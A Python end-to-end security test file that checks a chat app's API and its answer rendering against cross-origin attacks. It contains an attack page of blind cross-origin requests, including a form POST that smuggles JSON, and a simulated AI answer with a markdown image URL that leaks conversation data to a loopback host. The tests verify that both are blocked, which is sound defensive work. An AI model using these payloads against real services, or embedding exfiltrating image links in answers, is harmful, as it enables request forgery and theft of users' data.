"""Findings 2 and 4 of "Safe to deploy" in a real browser (Debian Chromium via Playwright).

- A page on another origin of this machine (another port of 127.0.0.1, or ``localhost``)
  tries every blind request form a web page has against the token-less API: ``<img>``,
  ``fetch`` with ``no-cors``, ``EventSource``, a ``text/plain`` form POST and a ``no-cors``
  POST. The provider (the wire server) must see none of them; the API's own demo page still
  works (the positive control).
- An answer with a remote image is drawn without the browser fetching it: the image server on
  loopback records no request, and the answer shows a link naming the alt text and the host.
"""

from __future__ import annotations

import threading
from collections.abc import Callable, Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any

import pytest

from tests.e2e.conftest import AppServer, ChatPage
from tests.servers import RunningServer, server_env, streamlit_server
from tests.wire_server import Scenario, WireServer

pytestmark = pytest.mark.e2e


class _Recorder(BaseHTTPRequestHandler):
    """Serves ``server.page`` at / and records every other request's path."""

    server: Any

    def do_GET(self) -> None:  # noqa: N802 (http.server naming)
        if self.path == "/":
            body = self.server.page.encode()
            self.send_response(200)
            self.send_header("Content-Type", "text/html; charset=utf-8")
        else:
            self.server.seen.append(self.path)
            body = b"\x89PNG\r\n\x1a\n"
            self.send_response(200)
            self.send_header("Content-Type", "image/png")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, format: str, *args: Any) -> None:
        pass


@pytest.fixture
def other_origin() -> Iterator[Any]:
    """An HTTP server on another loopback port: serves a page, records other requests."""
    server = ThreadingHTTPServer(("127.0.0.1", 0), _Recorder)
    server.page = ""  # type: ignore[attr-defined]
    server.seen = []  # type: ignore[attr-defined]
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield server
    finally:
        server.shutdown()
        server.server_close()


@pytest.fixture(scope="module")
def api(wire_server: WireServer) -> Iterator[RunningServer]:
    env = server_env(OPENAI_API_KEY="sk-test", OPENAI_BASE_URL=wire_server.openai_base_url)
    with streamlit_server("server.py", env=env) as server:
        yield server


ATTACK_PAGE = """<!doctype html><html><body>
<iframe name="sink" id="sink"></iframe>
<form id="form" method="POST" enctype="text/plain" target="sink" action="{api}/api/chat">
  <input name='{{"prompt": "form", "x": "' value='"}}'>
</form>
<script>
const api = "{api}";
const url = api + "/api/stream?prompt=" + encodeURIComponent("blind request");
const done = [];
const mark = (what) => done.push(what);
const img = new Image();
img.onload = img.onerror = () => mark("img");
img.src = url + "&via=img";
fetch(url + "&via=fetch", {{mode: "no-cors"}}).then(() => mark("fetch"), () => mark("fetch"));
fetch(api + "/api/chat", {{method: "POST", mode: "no-cors", headers: {{"Content-Type": "text/plain"}},
  body: JSON.stringify({{prompt: "no-cors post"}})}}).then(() => mark("post"), () => mark("post"));
const source = new EventSource(url + "&via=eventsource");
source.onerror = () => {{ source.close(); mark("eventsource"); }};
source.onmessage = () => {{ source.close(); mark("eventsource"); }};
document.getElementById("sink").onload = () => mark("form");
document.getElementById("form").submit();
window.__done = done;
</script></body></html>"""


@pytest.mark.parametrize("attacker_host", ["127.0.0.1", "localhost"])
def test_pages_on_other_origins_cannot_make_the_api_call_the_provider(
    browser: Any,
    api: RunningServer,
    wire: WireServer,
    other_origin: Any,
    attacker_host: str,
) -> None:
    other_origin.page = ATTACK_PAGE.format(api=api.base_url)
    context = browser.new_context()
    try:
        page = context.new_page()
        page.goto(f"http://{attacker_host}:{other_origin.server_address[1]}/")
        page.wait_for_function("window.__done && window.__done.length >= 5", timeout=30_000)
        assert sorted(page.evaluate("window.__done")) == [
            "eventsource", "fetch", "form", "img", "post",
        ]  # fmt: skip
        assert wire.requests == [], [r.user_text for r in wire.requests]

        # Positive control: the API's own page, same origin, still streams an answer.
        page.goto(f"{api.base_url}/api/demo")
        page.fill("#prompt", "from the demo page")
        page.click("#send")
        page.locator("#metrics", has_text="TTFT").wait_for(timeout=30_000)
        assert [r.user_text for r in wire.requests] == ["from the demo page"]
    finally:
        context.close()


@pytest.fixture(scope="module")
def image_app(wire_server: WireServer) -> Iterator[AppServer]:
    key = "sk-test-images-0123456789"
    env = server_env(OPENAI_API_KEY=key, OPENAI_BASE_URL=wire_server.openai_base_url)
    with streamlit_server("app.py", env=env) as server:
        yield AppServer(server, key)


def test_a_remote_image_in_an_answer_is_not_fetched(
    make_chat: Callable[[AppServer], ChatPage],
    image_app: AppServer,
    wire: WireServer,
    other_origin: Any,
) -> None:
    port = other_origin.server_address[1]
    secret = "the-whole-conversation"
    wire.enqueue(
        Scenario.text(
            f"Here is the chart:\n\n![sales chart](http://127.0.0.1:{port}/p.png?data={secret})"
            f"\n\nand inline ![pixel](http://127.0.0.1:{port}/pixel.gif) too.\n\nDone."
        )
    )
    chat = make_chat(image_app).open_chat()
    chat.send("draw me a chart")
    shown = chat.answer_text()
    assert shown.rstrip().endswith("Done.")
    body = chat.answer_body()
    assert body.locator("img").count() == 0
    link = body.locator("a", has_text="sales chart")
    assert link.count() == 1
    assert "127.0.0.1" in link.inner_text()
    chat.page.reload()  # drawn again from the history: still nothing fetched
    chat.page.wait_for_selector('[data-testid="stChatMessage"]')
    chat.wait_idle()
    assert other_origin.seen == []
